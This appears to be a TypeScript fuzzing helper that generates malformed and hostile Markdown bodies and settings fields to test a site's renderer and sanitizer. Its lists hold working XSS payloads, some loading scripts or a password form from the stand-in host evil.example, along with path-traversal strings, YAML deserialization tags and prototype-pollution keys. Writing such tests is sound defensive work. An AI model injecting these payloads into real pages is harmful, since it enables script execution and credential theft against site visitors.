import type { Choices } from '../bad-requests/choices';

/** What would run, or be fetched from elsewhere, if a page let it through. */
const ACTIVE = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<ScRiPt\n>alert(1)</sCrIpT >',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0; url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<p style="position:fixed;inset:0" onclick="alert(1)">x</p>',
  '<!--><img src=x onerror=alert(1)>-->',
  '</textarea><script>alert(1)</script>',
  '</main><script>alert(1)</script>',
  '</title></head><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt&colon;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example "a\\" onmouseover=\\"alert(1)")',
  '![x](x" onerror="alert(1))',
  '![x](javascript:alert(1))',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '::picture{name="x\\" onerror=\\"alert(1)"}',
  '::picture{name="../../etc/passwd" onload="alert(1)"}',
  '::script{src="https://evil.example/x.js"}',
  ':::note{onclick="alert(1)" style="x"}\nText\n:::',
  ':::warning{#main .x}\n<script>alert(1)</script>\n:::',
  '{{constructor.constructor("alert(1)")()}}',
  '`<script>alert(1)</script>',
  '| <img src=x onerror=alert(1)> |\n| --- |\n| [x](javascript:alert(1)) |',
];

/** Starts and ends of parts that are nested until something gives. */
const NESTED = [
  ['> ', ''],
  ['- ', ''],
  ['1. ', ''],
  ['[', ']'],
  ['![', '](x)'],
  ['*', '*'],
  ['_', '_'],
  ['**_', '_**'],
  ['`', '`'],
  ['~~', '~~'],
  ['<div>', '</div>'],
  [':::note\n', '\n:::'],
  ['    ', ''],
  ['\t', ''],
  ['(', ')'],
] as const;

/** Texts that have broken a reader of YAML, of dates or of names. */
const ODD = [
  '',
  ' ',
  '\n',
  '-',
  '---\ntitle: Another\n---',
  '\n---\n',
  '...\n',
  ': ',
  'a: b: c',
  '"',
  "'",
  '"a" b',
  '{',
  '[1, 2',
  '{a: {b: [c]}}',
  '&a [*a, *a]',
  '*x',
  '!!js/function "function () {}"',
  '!!binary x',
  '<<: {a: 1}',
  '? a',
  '| a\n  b',
  '>-',
  '#',
  'a # b',
  '%YAML 1.1',
  '@x',
  '~',
  'null',
  'true',
  'no',
  '0x1F',
  '1e999',
  '-0',
  '.inf',
  '012',
  '2026-02-30',
  '0000-00-00',
  '99999-01-01',
  '2026-11-20T25:61:00',
  '../../etc/passwd',
  '/\\evil.example',
  '//evil.example',
  '/nowhere#x',
  'https://[::1',
  'javascript:alert(1)',
  'data:text/html,x',
  '__proto__',
  'constructor',
  '[object Object]',
  '\0',
  'a\0b',
  '\u0007\u001b[31m',
  '\u202egnp.exe',
  '\ufeff',
  '\ufffe',
  '\ud800',
  'é́́́́́́',
  '👩‍👩‍👧‍👦'.repeat(20),
  'x'.repeat(90),
  'x'.repeat(5000),
  'x '.repeat(5000),
  '\u2028\u2029\u0085',
];

const WORDS = [
  'Fee',
  'register',
  'the',
  'office',
  'Kano',
  'asks',
  '969',
  'household',
  'ƙ',
  '—',
  '\\',
  '&amp;',
  '&#0;',
];

/** A text in Markdown that means ill, is broken, or is too large. */
export function badBody(choices: Choices): string {
  const parts = Array.from({ length: 1 + choices.whole(6) }, () => badPart(choices));
  return parts.join(choices.one(['\n\n', '\n', ' ', '\r\n\r\n']));
}

function badPart(choices: Choices): string {
  const kinds = [
    () => choices.one(ACTIVE),
    () => choices.one(ACTIVE),
    () => nested(choices),
    () => cutOff(choices),
    () => repeated(choices),
    () => table(choices),
    () => choices.one(ODD),
    () => noise(choices),
    () => prose(choices),
    () => `## ${choices.one([...ACTIVE, ...ODD])}\n\n${prose(choices)}`,
  ];
  return choices.one(kinds)();
}

/** What a field of the settings may be sent as. */
export function badField(choices: Choices): string {
  const kinds = [
    () => choices.one(ODD),
    () => choices.one(ODD),
    () => choices.one(ACTIVE),
    () => noise(choices),
    () => `${prose(choices)}${choices.one(ODD)}`,
  ];
  return choices.one(kinds)();
}

function prose(choices: Choices): string {
  return Array.from({ length: 3 + choices.whole(40) }, () => choices.one(WORDS)).join(' ');
}

function nested(choices: Choices): string {
  const [start, end] = choices.one(NESTED);
  const times = choices.one([2, 9, 60, 700, 9000]);
  return `${start.repeat(times)}x${end.repeat(times)}`;
}

/** The beginning of something, without its end. */
function cutOff(choices: Choices): string {
  const whole = choices.one(ACTIVE);
  return whole.slice(0, choices.whole(whole.length));
}

function repeated(choices: Choices): string {
  const piece = choices.one([
    ...ACTIVE,
    '[x](y) ',
    '\\',
    '&',
    '<',
    '[',
    '*a ',
    'a_',
    '|',
    '\n',
    '\n\n# ',
    '^',
    'http://a.b ',
    '::x{a=b}\n',
  ]);
  return piece.repeat(choices.one([3, 50, 900]));
}

function table(choices: Choices): string {
  const columns = choices.one([1, 3, 30, 400]);
  const row = (cell: () => string) => `|${Array.from({ length: columns }, cell).join('|')}|`;
  const rows = Array.from({ length: choices.whole(12) }, () => row(() => choices.one(WORDS)));
  return [row(() => 'a'), row(() => '---'), ...rows].join('\n');
}

/** Any characters at all, such as those that Markdown and HTML have a use for. */
function noise(choices: Choices): string {
  const marks = '<>&"\'`*_[](){}!#|~^:=-+.\\/\n\r\t ax0é\u0000\u200b\ud800\udc00';
  return Array.from({ length: choices.whole(300) }, () => marks.charAt(choices.whole(marks.length))).join('');
}
